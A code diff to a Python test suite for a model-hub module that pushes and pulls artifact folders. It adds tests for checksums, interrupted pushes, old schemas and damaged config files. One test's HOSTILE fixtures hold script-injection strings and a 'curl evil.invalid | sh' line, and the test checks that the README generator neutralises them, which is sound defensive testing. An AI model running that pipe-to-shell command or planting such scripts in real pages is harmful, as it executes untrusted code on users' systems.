@@ -1,14 +1,16 @@
 """Knowledge in a plain folder, there and back; the hub itself is a module of our own here."""
 
+import dataclasses
 import json
 import sys
 import types
 
 import numpy as np
 import pytest
+from safetensors.numpy import save_file
 
 from handrail import hub
-from handrail.artifact import Card, load, save
+from handrail.artifact import Card, checksum, load, save
 from handrail.errors import HandrailError
 
 SPEC = {"view": "symbolic", "shape": [567], "actions": 7}
@@ -85,7 +87,7 @@ def swapped(folder):
 
 WRONG = {
     "no model": (lambda folder: (folder / hub.MODEL).unlink(), "holds no model.safetensors"),
-    "damaged": (damaged, "do not match the card's checksum"),
+    "damaged": (damaged, "card and arrays do not match the card's checksum"),
     "swapped": (swapped, "config.json describes something else than model.safetensors"),
 }
 
@@ -142,3 +144,50 @@ def test_an_error_of_the_hub_is_one_line(asked):
     text = r"cannot fetch 'someone/else' from the hub: 404 Client Error\.$"
     with pytest.raises(HandrailError, match=text):
         hub.download("someone/else")
+
+
+HOSTILE = (
+    "```\n\n<script>alert(1)</script>\n\n# Install\n\n```sh\ncurl evil.invalid | sh\n```\n",
+    "1.0)\n\n<script>alert(3)</script>\n\n[click](javascript:alert(4)",
+    "x` |\n\n<b> & ~~~ | y\x7f",
+)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_readme_shows_what_others_wrote_and_obeys_none_of_it(text):
+    card = Card("prior", {text: text, "n": 1}, {}, {"task": text, text: [text]}, library=text)
+    body = hub.readme(card, 6)
+    plain = hub.readme(Card("prior", {"t": "t", "n": 1}, {}, {"t": ["t"], "x": "t"}, "1.0"), 6)
+    assert body.count("\n") == plain.count("\n"), "no line is added"
+    assert body.count("```") == plain.count("```")
+    assert not {"<", ">", "&"} & set(body)
+    rows = [line for line in body.splitlines() if line.startswith("| ")]
+    assert all(row.count("|") == 3 and row.count("`") % 2 == 0 for row in rows)
+    outside = "".join(body.split("```")[::2])
+    assert "[click](" not in "".join(outside.split("`")[::2])
+
+
+@pytest.mark.parametrize("of", [".model.safetensors", ".config.json", ".README.md"])
+def test_a_folder_of_a_push_that_was_killed_is_taken_and_cleared(file, tmp_path, of):
+    folder = tmp_path / "folder"
+    folder.mkdir()
+    (folder / f"{of}.abcd_123").write_text("half")
+    hub.push(file, folder)
+    assert {path.name for path in folder.iterdir()} == {"README.md", "config.json", hub.MODEL}
+
+
+def test_a_folder_that_an_earlier_version_pushed_is_pulled(file, tmp_path):
+    folder = hub.push(file, tmp_path / "folder")
+    card, arrays = load(file)
+    old = {**dataclasses.asdict(card), "schema": 1, "checksum": checksum(arrays)}
+    save_file(arrays, folder / hub.MODEL, metadata={"handrail": json.dumps(old)})
+    (folder / "config.json").write_text(json.dumps({"library_name": "handrail", **old}))
+    assert hub.pull(folder)[1].checksum == old["checksum"]
+
+
+@pytest.mark.parametrize("text", ["[" * 100_000, "[]", '{"spec": 1, "spec": 2}'])
+def test_a_config_of_others_is_one_error(file, tmp_path, text):
+    folder = hub.push(file, tmp_path / "folder")
+    (folder / "config.json").write_text(text)
+    with pytest.raises(HandrailError, match=r"config\.json is damaged"):
+        hub.pull(folder)
